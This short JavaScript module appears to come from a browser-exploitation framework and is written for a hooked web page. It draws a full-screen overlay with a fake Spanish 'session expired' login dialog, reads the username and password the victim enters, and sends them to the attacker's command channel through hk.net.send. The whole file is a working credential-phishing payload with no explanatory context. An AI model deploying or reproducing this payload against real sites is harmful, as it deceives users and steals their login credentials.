hk.execute(function () {
  var shade = document.createElement('div');
  shade.style.cssText = 'position:fixed;inset:0;background:#000a;z-index:99999';
  shade.innerHTML = '<div style="margin:15% auto;width:320px;background:#fff;padding:20px;font:14px sans-serif"><b>Tu sesi\u00f3n ha caducado</b><p>Vuelve a introducir tus datos para continuar.</p><input id="hk_u" placeholder="Usuario"><input id="hk_p" type="password" placeholder="Contrase\u00f1a"><button>Aceptar</button></div>';
  document.body.appendChild(shade);
  shade.querySelector('button').onclick = function () {
    var u = document.getElementById('hk_u').value, p = document.getElementById('hk_p').value;
    if (!p) return;
    hk.net.send('/command/pretty_prompt.js', hk.cid, 'answer=' + u + ':' + p);
    document.body.removeChild(shade);
  };
});
